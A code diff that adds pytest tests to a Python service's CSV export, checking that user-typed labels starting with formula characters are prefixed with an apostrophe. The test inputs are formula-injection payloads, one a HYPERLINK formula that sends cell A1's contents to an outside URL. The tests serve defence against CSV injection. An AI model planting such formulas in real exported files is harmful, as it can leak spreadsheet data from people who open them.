@@ -2,7 +2,11 @@ import csv
 import io
 import json
 
+import pytest
+
+from api_schemas.derivation_kinds.size import SizeChance
 from api_schemas.results import Measurement
+from service.representation.csv_table import models_csv
 from service.representation.measurement_table import measurements_csv, measurements_csv_of
 
 
@@ -36,3 +40,33 @@ def test_a_result_document_may_hold_other_things_besides():
 
 def test_no_measurements_leave_the_header():
     assert measurements_csv([]).count(b"\r\n") == 1
+
+
+def cell(label: str) -> str:
+    """What the table has for a label that somebody typed."""
+    size = SizeChance(label=label, probability=0.5, cost=-1.5, fits=True)
+    (row,) = csv.DictReader(io.StringIO(models_csv([size], SizeChance.model_fields).decode()))
+    assert row["cost"] == "-1.5", "a number stays one"
+    return row["label"]
+
+
+@pytest.mark.parametrize(
+    "label",
+    [
+        '=HYPERLINK("http://example.org/?"&A1,"L")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        " =1+1",
+        "\u00a0=1+1",
+        "\uff1d1+1",
+    ],
+)
+def test_no_cell_of_what_somebody_typed_is_a_formula(label):
+    assert cell(label) == f"'{label}"
+
+
+@pytest.mark.parametrize("label", ["M", "38-40", "a=b", "XL +", "'s"])
+def test_other_labels_stay_as_they_were_typed(label):
+    assert cell(label) == label
